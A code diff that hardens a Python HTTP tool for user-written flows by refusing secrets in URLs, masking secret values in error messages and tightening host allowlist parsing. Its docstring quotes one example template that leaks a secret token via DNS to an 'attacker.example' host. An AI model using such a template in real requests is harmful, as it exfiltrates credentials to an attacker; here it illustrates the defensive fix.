@@ -3,6 +3,11 @@
 Flow documents are user content, so the host (not the flow) decides which hosts may be called and which
 secrets exist: an empty allowlist refuses every request, secrets come from the caller's mapping and never
 from the document, and redirects are not followed (a redirect could leave the allowlist).
+
+Secrets go only into headers and bodies, never into the URL: a URL is named in error messages, logs and
+proxies, and its host is looked up in DNS, so ``http://{{ secrets.TOKEN }}.attacker.example/`` would hand
+the secret to whoever runs that name server. Error messages, which reach the caller's client as
+``flow.http`` events, have every secret value masked.
 """
 
 from __future__ import annotations
@@ -12,16 +17,18 @@ from collections.abc import Iterable, Mapping
 from dataclasses import dataclass, field
 from datetime import datetime
 from typing import Any
-from urllib.parse import urlsplit
+from urllib.parse import quote, quote_plus, urlsplit
 
 import httpx
 
 from flows.schema import HttpNode
-from flows.templates import TemplateError, render, render_json
+from flows.templates import TemplateError, render, render_json, uses_secrets
 
 __all__ = ["HttpResult", "HttpTool", "host_allowed", "lookup_path"]
 
 _MISSING = object()
+SECRET_MASK = "[secret]"
+MAX_ERROR_CHARS = 300
 
 
 @dataclass
@@ -39,13 +46,13 @@ class HttpResult:
 def host_allowed(url: str, allowed_hosts: Iterable[str]) -> bool:
     """Whether ``url``'s host is allowed. Entries: ``api.example.com``, ``*.example.com`` (subdomains),
     ``api.example.com:8443`` (that port only). An empty allowlist allows nothing."""
-    parts = urlsplit(url)
-    host = (parts.hostname or "").lower().rstrip(".")
-    if parts.scheme not in ("http", "https") or not host:
-        return False
     try:
+        parts = urlsplit(url)
+        host = (parts.hostname or "").lower().rstrip(".")
         port = parts.port or (443 if parts.scheme == "https" else 80)
-    except ValueError:
+    except ValueError:  # "http://[::1", a port out of range
+        return False
+    if parts.scheme not in ("http", "https") or not host:
         return False
     for entry in allowed_hosts:
         entry = entry.strip().lower()
@@ -63,6 +70,13 @@ def host_allowed(url: str, allowed_hosts: Iterable[str]) -> bool:
         elif host == entry.strip("[]"):
             return True
     return False
+
+
+def _host(url: str) -> str:
+    try:
+        return urlsplit(url).hostname or url
+    except ValueError:  # "http://[::1" and friends
+        return url
 
 
 def lookup_path(data: Any, path: str) -> Any:
@@ -112,20 +126,38 @@ class HttpTool:
         self, node: HttpNode, variables: Mapping[str, Any], *, now: datetime | None = None
     ) -> HttpResult:
         """Render and send the node's request; never raises for request problems (see ``HttpResult.error``)."""
-        context: dict[str, Any] = {**variables, "secrets": self._secrets}
+        result = await self._call(node, variables, now)
+        if result.error is not None:
+            result.error = self.redact(result.error)[:MAX_ERROR_CHARS]
+        return result
+
+    def redact(self, text: str) -> str:
+        """``text`` with every secret value masked, as written and as it appears quoted or URL-encoded."""
+        for value in sorted(self._secrets.values(), key=len, reverse=True):
+            if not value:
+                continue
+            for form in {value, repr(value)[1:-1], quote(value, safe=""), quote_plus(value)}:
+                text = text.replace(form, SECRET_MASK)
+        return text
+
+    async def _call(self, node: HttpNode, variables: Mapping[str, Any], now: datetime | None) -> HttpResult:
+        context: dict[str, Any] = dict(variables)
         if now is not None:
             context["now"] = now
         try:
-            url = render(node.url, context)
+            if uses_secrets(node.url):  # validation refuses this too; a flow built in code is checked here
+                return HttpResult(ok=False, error="secrets may not be used in the url; request refused")
+            url = render(node.url, context)  # no secrets in this context: the URL cannot reach them
+            context["secrets"] = self._secrets
             headers = {k: render(v, context) for k, v in node.headers.items()}
             body = render_json(node.body, context) if node.body is not None else None
         except TemplateError as exc:
             return HttpResult(ok=False, error=str(exc))
         if not host_allowed(url, self.allowed_hosts):
-            host = urlsplit(url).hostname or url
+            host = _host(url)
             return HttpResult(
                 ok=False,
-                error=f"host {host!r} is not on the allowlist of hosts flows may call; request refused",
+                error=f"host {host[:100]!r} is not on the allowlist of hosts flows may call; request refused",
             )
         if self._client is not None:
             return await self._send(self._client, node, url, headers, body)
@@ -155,6 +187,9 @@ class HttpTool:
             except httpx.HTTPError as exc:
                 result.error = f"request failed: {type(exc).__name__}: {exc}"
                 continue
+            except (httpx.InvalidURL, ValueError) as exc:  # a rendered URL or header httpx cannot send
+                result.error = f"request not sent: {type(exc).__name__}: {exc}"
+                return result
             result.status = response.status_code
             if response.status_code >= 500:  # the server's trouble: worth another try
                 result.error = f"HTTP {response.status_code}"
